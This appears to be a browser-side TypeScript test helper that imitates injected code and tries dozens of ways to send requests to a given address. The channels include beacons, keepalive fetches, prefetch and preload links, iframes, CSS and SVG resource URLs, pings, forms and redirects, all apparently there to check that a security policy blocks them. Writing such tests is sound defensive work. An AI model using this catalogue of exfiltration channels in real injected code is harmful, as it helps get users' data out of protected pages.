// Runs in the page, as code that was smuggled into it would.

/** Ways to reach an address that tell nothing of their end: whether anything arrived, only the address knows. */
export function reachSilently(to: string): void {
  const element = <K extends keyof HTMLElementTagNameMap>(
    tag: K,
    attributes: Record<string, string>,
  ): HTMLElementTagNameMap[K] => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    document.body.append(made)
    return made
  }
  const attempt = (work: () => unknown) => {
    try {
      void Promise.resolve(work()).catch(() => undefined)
    } catch {
      // Refused, as it should be.
    }
  }
  attempt(() => navigator.sendBeacon(`${to}/beacon`, 'secret'))
  attempt(() => fetch(`${to}/kept-alive`, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }))
  attempt(() => (Reflect.get(window, 'fetchLater') as (url: string) => unknown)(`${to}/later`))
  for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'icon', 'manifest', 'next']) {
    element('link', { rel, href: `${to}/${rel}` })
  }
  for (const as of ['font', 'fetch', 'script', 'style', 'track', 'document']) {
    element('link', { rel: 'preload', as, href: `${to}/preload-${as}`, crossorigin: '' })
  }
  const rules = JSON.stringify({
    prefetch: [{ urls: [`${to}/speculation`] }],
    prerender: [{ urls: [`${to}/prerendered`] }],
  })
  element('script', { type: 'speculationrules' }).textContent = rules

  const loud = `<img src="${to}/in-frame.png"><script>fetch('${to}/by-frame')</script>`
  element('iframe', { src: `${to}/frame` })
  element('iframe', { srcdoc: loud })
  element('iframe', { src: `data:text/html,${encodeURIComponent(loud)}` })
  element('iframe', { src: URL.createObjectURL(new Blob([loud], { type: 'text/html' })) })
  element('iframe', { src: `javascript:fetch('${to}/by-address')` })
  const empty = element('iframe', {}).contentWindow
  attempt(() => (empty as (Window & typeof globalThis) | null)?.fetch(`${to}/from-empty-frame`))
  attempt(() => empty?.document.write(loud))
  element('object', { data: `${to}/object` })
  element('embed', { src: `${to}/embed` })

  element('img', { srcset: `${to}/set.png 1x` })
  element('img', { src: 'data:,', attributionsrc: `${to}/attribution` })
  element('video', { poster: `${to}/poster.png` })
  element('input', { type: 'image', src: `${to}/button.png` })
  const styled = element('div', { style: `background: url(${to}/attribute.png)` })
  Object.assign(styled.style, {
    backgroundImage: `url(${to}/background.png)`,
    listStyleImage: `url(${to}/list.png)`,
    cursor: `url(${to}/cursor.cur), auto`,
    borderImageSource: `url(${to}/border.png)`,
  })
  const css = `@font-face { font-family: f; src: url(${to}/face.woff2) } body::after { content: url(${to}/c.png); font-family: f }`
  element('style', {}).textContent = `@import url(${to}/import.css); ${css}`
  attempt(() => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(css)
    document.adoptedStyleSheets.push(sheet)
  })
  element('div', {}).innerHTML =
    `<svg><image href="${to}/svg.png"/><use href="${to}/use.svg#x"/><filter id="f"><feImage href="${to}/fe.png"/></filter></svg>
     <video><track default src="${to}/track.vtt"></video><picture><source srcset="${to}/source.png"><img></picture>`

  element('a', { href: '#x', ping: `${to}/ping` }).click()
  element('a', { href: `${to}/download`, download: 'x' }).click()
  element('a', { href: `${to}/other-window`, target: '_blank', rel: 'noreferrer' }).click()
  element('a', { href: `${to}/named-window`, target: 'other' }).click()
  attempt(() => window.open(`${to}/window`))
  for (const target of ['_self', '_blank']) {
    for (const method of ['get', 'post']) {
      element('form', { action: `${to}/form-${method}`, method, target }).submit()
    }
  }
  element('meta', { 'http-equiv': 'refresh', content: `0;url=${to}/refresh` })
}
